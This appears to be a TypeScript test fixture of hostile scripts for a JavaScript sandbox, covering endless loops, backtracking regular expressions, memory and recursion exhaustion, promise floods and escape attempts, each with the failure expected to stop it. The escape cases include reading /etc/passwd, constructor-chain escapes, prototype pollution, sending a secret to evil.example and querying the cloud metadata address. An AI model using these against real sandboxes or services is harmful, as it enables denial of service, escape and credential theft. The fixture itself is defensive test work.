import type { Failure, ScriptLimits } from '../../../scripts/index.ts'

/** A script that means harm, and how it has to end. */
export interface HostileScript {
  readonly name: string
  /** Its body; it has every word that scripts have. */
  readonly body: string
  /** Reasons of which one ends it, `harmless` where it may come to nothing; or what its output has to be, where it ends by itself and got nothing. */
  readonly ends: readonly (Failure | 'harmless')[] | { readonly output: unknown }
  readonly limits?: Partial<ScriptLimits>
}

const slow = ['timeout'] as const
const full = ['memory', 'timeout', 'crash', 'error'] as const
const deep = ['error', 'crash', 'timeout'] as const
// biome-ignore-start lint/suspicious/noTemplateCurlyInString: they are scripts
const none = (output: unknown) => ({ output })

const loops: readonly HostileScript[] = [
  { name: 'endless loop', body: 'for (;;) {}', ends: slow },
  { name: 'endless loop that catches all', body: 'for (;;) { try { for (;;) {} } catch {} }', ends: slow },
  { name: 'endless loop in finally', body: 'try { for (;;) {} } finally { for (;;) {} }', ends: slow },
  { name: 'loop in native code', body: "return (new Array(1e8) + '').length", ends: slow },
  { name: 'native join of a huge array', body: "return new Array(2 ** 28).join('x').length", ends: [...slow, ...full] },
  {
    name: 'native sort with a comparison that never ends',
    body: 'return [3, 1, 2].sort(() => { for (;;) {} })',
    ends: slow,
  },
  {
    name: 'native search in a sparse array',
    body: 'const a = []; a.length = 2 ** 32 - 1; return a.indexOf(1)',
    ends: slow,
  },
  {
    name: 'native reverse of a sparse array',
    body: 'const a = []; a.length = 2 ** 32 - 1; a.reverse(); return 1',
    ends: [...slow, ...full],
  },
  { name: 'regular expression that backtracks', body: "return /^(a+)+$/.test('a'.repeat(40) + 'b')", ends: slow },
  {
    name: 'regular expression with nested groups',
    body: "return /^((a|a)+)*$/.test('a'.repeat(50) + 'b')",
    ends: [...slow, ...full],
  },
  {
    name: 'replace with a pattern that backtracks',
    body: "return ('a'.repeat(50)).replace(/(a*)*b/, '')",
    ends: [...slow, ...full],
  },
  {
    name: 'generator without end',
    body: 'function* g() { for (;;) yield 1 } for (const x of g()); return 1',
    ends: slow,
  },
  {
    name: 'spread of an endless iterator',
    body: 'return [...{ *[Symbol.iterator]() { for (;;) yield 1 } }].length',
    ends: [...slow, ...full],
  },
  { name: 'power of BigInts', body: 'let x = 3n; for (;;) x = x ** 99n', ends: [...slow, ...full] },
  { name: 'text of a huge BigInt', body: 'return String(7n ** 3000000n).length', ends: [...slow, ...full] },
  { name: 'getter without end in the output', body: 'return { get a() { for (;;) {} } }', ends: slow },
  { name: 'toJSON without end', body: 'return { toJSON() { for (;;) {} } }', ends: slow },
  { name: 'message of an error without end', body: 'throw { get message() { for (;;) {} } }', ends: slow },
  {
    name: 'name of an error without end',
    body: "const e = new Error('x'); Object.defineProperty(e, 'name', { get() { for (;;) {} } }); throw e",
    ends: slow,
  },
  { name: 'proxy that never answers', body: 'return new Proxy({}, { ownKeys() { for (;;) {} } })', ends: slow },
  { name: 'loop on the top level of the module', body: '} \n for (;;) {} \n {', ends: slow },
  {
    name: 'loop in a class that is made',
    body: 'class A { static x = (() => { for (;;) {} })() } return 1',
    ends: slow,
  },
  { name: 'loop in sorting of typed values', body: 'new Uint8Array(100).sort(() => { for (;;) {} })', ends: slow },
]

const memory: readonly HostileScript[] = [
  { name: 'array that grows', body: 'const a = []; for (;;) a.push(new Array(1000).fill(1))', ends: full },
  { name: 'texts that double', body: "let s = 'x'; const a = []; for (;;) { s += s; a.push(s) }", ends: full },
  { name: 'array buffers', body: 'const a = []; for (;;) a.push(new ArrayBuffer(1e7))', ends: full },
  { name: 'one huge buffer', body: 'return new Uint8Array(2 ** 31 - 1).length', ends: full },
  {
    name: 'resizable buffer',
    body: 'return new ArrayBuffer(8, { maxByteLength: 2 ** 40 }).byteLength',
    ends: [...full, 'output'],
  },
  {
    name: 'memory that is caught and asked for again',
    body: 'const a = []; for (;;) { try { a.push(new Uint8Array(1e6)) } catch {} }',
    ends: full,
  },
  { name: 'map that grows', body: 'const m = new Map(); for (let i = 0; ; i++) m.set(i, { i })', ends: full },
  { name: 'padding', body: "return 'x'.padStart(2 ** 30).length", ends: full },
  { name: 'repetition', body: "return 'x'.repeat(2 ** 30).length", ends: full },
  { name: 'objects in circles', body: 'const a = []; for (;;) { const o = {}; o.o = o; a.push(o) }', ends: full },
  { name: 'closures', body: 'let f = () => 1; for (;;) { const g = f; f = () => g }', ends: full },
  { name: 'symbols', body: 'const a = []; for (let i = 0; ; i++) a.push(Symbol(String(i)))', ends: full },
]

const depth: readonly HostileScript[] = [
  { name: 'recursion', body: 'const f = () => f() + 1; return f()', ends: deep },
  {
    name: 'recursion that catches',
    body: 'const f = () => { try { return f() } catch { return f() } }; return f()',
    ends: [...deep, 'memory'],
  },
  { name: 'recursion of getters', body: 'const o = { get a() { return o.a } }; return o.a', ends: deep },
  { name: 'recursion of toString', body: 'const o = { toString() { return `${o}` } }; return `${o}`', ends: deep },
  {
    name: 'recursion of proxies',
    body: 'let p = {}; for (let i = 0; i < 1e5; i++) p = new Proxy(p, {}); return p.x',
    ends: [...deep, 'memory'],
  },
  {
    name: 'recursion of bound functions',
    body: 'let f = () => 1; for (let i = 0; i < 1e5; i++) f = f.bind(null); return f()',
    ends: [...deep, 'memory'],
  },
  { name: 'deep JSON to read', body: "return JSON.parse('['.repeat(1e6))", ends: [...deep, 'memory'] },
  {
    name: 'deep JSON to write',
    body: 'let a = []; for (let i = 0; i < 1e5; i++) a = [a]; return a',
    ends: [...deep, 'output', 'memory'],
  },
  {
    name: 'deep regular expression',
    body: "return new RegExp('('.repeat(1e5) + ')'.repeat(1e5)).test('')",
    ends: [...deep, 'memory'],
  },
  { name: 'deep source to read', body: "return eval('['.repeat(1e5))", ends: [...deep, 'memory'] },
  {
    name: 'flat of what is inside itself',
    body: 'const a = []; a[0] = a; return a.flat(Infinity)',
    ends: [...deep, 'memory'],
  },
  {
    name: 'output a hundred levels deep',
    body: 'let a = 1; for (let i = 0; i < 100; i++) a = { a }; return a',
    ends: ['output'],
  },
]

const floods: readonly HostileScript[] = [
  { name: 'promises that make promises', body: 'const f = () => Promise.resolve().then(f); await f()', ends: slow },
  {
    name: 'two promises of each one',
    body: 'const f = () => { Promise.resolve().then(f); Promise.resolve().then(f) }; f(); await new Promise(() => {})',
    ends: full,
  },
  {
    name: 'a million promises',
    body: 'const a = []; for (let i = 0; i < 1e6; i++) a.push(Promise.resolve(i)); await Promise.all(a); return a.length',
    ends: full,
  },
  {
    name: 'objects within a job of a promise',
    body: 'await null; const a = []; for (let i = 0; i < 2e5; i++) a.push({ i, p: Promise.resolve() }); throw a',
    ends: full,
  },
  { name: 'thenable without end', body: 'return { then(done) { done(this) } }', ends: slow },
  { name: 'awaiting what never comes', body: 'await new Promise(() => {})', ends: ['error'] },
  { name: 'huge output', body: "return 'x'.repeat(5e6)", ends: ['output', 'memory', 'timeout'] },
  { name: 'huge list as output', body: 'return new Array(2e5).fill(1)', ends: ['output', 'timeout'] },
  {
    name: 'huge question',
    body: "await db.create('Order', { a: 'x'.repeat(3e6) })",
    ends: ['output', 'memory', 'timeout'],
  },
  { name: 'questions without end', body: "for (;;) await db.find('Order')", ends: ['host-calls', 'timeout'] },
  { name: 'questions without waiting', body: "for (;;) db.find('Order')", ends: ['host-calls'] },
  {
    name: 'many long questions at once',
    body: "await Promise.all(Array.from({ length: 1000 }, () => db.create('Order', { a: 'x'.repeat(2e5) })))",
    ends: ['host-calls', ...full],
  },
  {
    name: 'a question inside of the JSON of another',
    body: "const v = { toJSON() { return db.create('Order', v) } }; await db.create('Order', v)",
    ends: [...deep, 'harmless', 'host-calls'],
  },
  {
    name: 'more rows than it may',
    body: "for (;;) await db.find('Order', { first: 1000 })",
    ends: ['rows'],
    limits: { rows: 50 },
  },
  { name: 'lines without end', body: "for (;;) log('x'.repeat(100))", ends: [...slow, ...full] },
  { name: 'a line without end', body: "log('x'.repeat(1e7)); return 1", ends: [...full, 'harmless', 'output'] },
  { name: 'an error without end', body: "throw new Error('x'.repeat(1e6))", ends: ['error', 'timeout', 'memory'] },
  {
    name: 'requests without end',
    body: "for (;;) try { await http.get('https://example.com') } catch {}",
    ends: ['host-calls', 'timeout'],
  },
]

const escapes: readonly HostileScript[] = [
  { name: 'process', body: 'return typeof process', ends: none('undefined') },
  { name: 'require', body: 'return typeof require', ends: none('undefined') },
  { name: 'fetch', body: 'return typeof fetch', ends: none('undefined') },
  {
    name: 'timers',
    body: 'return [typeof setTimeout, typeof setInterval, typeof queueMicrotask]',
    ends: none(['undefined', 'undefined', 'undefined']),
  },
  {
    name: 'import of a file',
    body: "return (await eval(`import('fs')`)).readFileSync('/etc/passwd')",
    ends: ['error'],
  },
  { name: 'import of the engine', body: "return (await eval(`import('os')`)).exec", ends: ['error'] },
  {
    name: 'import of a URL',
    body: "return await eval(`import('data:text/javascript,export default 1')`)",
    ends: ['error'],
  },
  { name: 'require of functions', body: "return Function('return require')()", ends: ['error'] },
  { name: 'global of functions', body: "return Object.keys(Function('return this')() ?? {}).length", ends: none(0) },
  {
    name: 'constructor of constructors',
    body: "return db.find.constructor('return typeof process')()",
    ends: none('undefined'),
  },
  {
    name: 'constructor of what the host made',
    body: "return input.constructor.constructor('return typeof process')()",
    ends: none('undefined'),
  },
  { name: 'caller of functions', body: 'return (function f() { return f.caller })()', ends: ['error'] },
  {
    name: 'traces with structure',
    body: 'Error.prepareStackTrace = (_, s) => s; return typeof new Error().stack',
    ends: none('string'),
  },
  { name: 'WebAssembly', body: 'return typeof WebAssembly', ends: none('undefined') },
  {
    name: 'threads',
    body: 'return [typeof SharedArrayBuffer, typeof Atomics, typeof Worker]',
    ends: none(['undefined', 'undefined', 'undefined']),
  },
  {
    name: 'time to measure by',
    body: 'const a = Date.now(); for (let i = 0; i < 1e5; i++); return [Date.now() - a, typeof performance]',
    ends: none([0, 'undefined']),
  },
  {
    name: 'the clock behind the clock',
    body: 'const D = new Date(0).constructor; return [new D() - new Date(now), D.prototype.constructor.now() - Date.parse(now)]',
    ends: none([0, 0]),
  },
  {
    name: 'prototype of objects changed',
    body: "Object.prototype.first = 1e9; Object.prototype.toJSON = () => 'x'; return await db.find('Order')",
    ends: none('x'),
  },
  {
    name: 'prototype of promises changed',
    body: "Promise.prototype.then = function () { return this }; return (await db.get('Order', '1')).number",
    ends: [...slow, 'error'],
  },
  {
    name: 'JSON changed',
    body: "JSON.parse = () => ({ stolen: true }); JSON.stringify = () => 'null'; return (await db.get('Order', '1')).number",
    ends: none('A-1'),
  },
  {
    name: '__proto__ in a question',
    body: 'await db.create(\'Order\', JSON.parse(\'{"__proto__": {"admin": true}}\'))',
    ends: ['output'],
  },
  { name: '__proto__ in the output', body: 'return JSON.parse(\'{"__proto__": {"admin": true}}\')', ends: ['output'] },
  { name: 'numbers that JSON has not', body: 'return NaN', ends: ['error'] },
  { name: 'words of the host changed', body: 'db.find = () => 1; return 1', ends: ['error'] },
  { name: 'reading a secret as text', body: "return `${secret('stripe')}`", ends: ['error'] },
  {
    name: 'reading a secret as data',
    body: "return JSON.stringify(secret('stripe'))",
    ends: none('{"$secret":"stripe"}'),
  },
  {
    name: 'reading a secret by its fields',
    body: "const s = secret('stripe'); return [Object.keys(s), Object.getOwnPropertyNames(s), s['#name'] ?? null]",
    ends: none([[], [], null]),
  },
  {
    name: 'a secret as a value of a row',
    body: "return await db.create('Order', { a: secret('stripe') })",
    ends: none({ id: '2', a: { $secret: 'stripe' } }),
  },
  {
    name: 'a secret sent to another host',
    body: "await http.get('https://evil.example', { headers: { a: secret('stripe') } })",
    ends: ['error'],
  },
  { name: 'metadata of the cloud', body: "await http.get('http://169.254.169.254/latest/meta-data')", ends: ['error'] },
  {
    name: 'questions of another kind',
    body: "for (const word of ['constructor', '__proto__', 'toString']) { try { await db[word]('Order') } catch {} } throw new Error('none')",
    ends: ['error'],
  },
  { name: 'a name that is no text', body: "await db.find({ toString: () => 'Order' })", ends: ['error'] },
]

const waiting: readonly HostileScript[] = [
  { name: 'time up inside of a question', body: "await db.act('Order', 'slow', '1')", ends: slow },
  {
    name: 'time up inside of many questions',
    body: "await Promise.all(Array.from({ length: 50 }, () => db.act('Order', 'slow', '1')))",
    ends: slow,
  },
  { name: 'a loop behind a question', body: "await db.get('Order', '1'); for (;;) {}", ends: slow },
  {
    name: 'a native loop behind a question',
    body: "await db.get('Order', '1'); return (new Array(1e8) + '').length",
    ends: slow,
  },
  { name: 'a question that is left behind', body: "db.act('Order', 'slow', '1'); return 1", ends: ['error'] },
  {
    name: 'output and then a loop',
    body: 'Promise.resolve().then(() => Promise.resolve()).then(() => { for (;;) {} }); return 1',
    ends: none(1),
  },
]

/** Scripts that mean harm. */
export const hostileScripts: readonly HostileScript[] = [
  ...loops,
  ...memory,
  ...depth,
  ...floods,
  ...escapes,
  ...waiting,
]
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: they are scripts
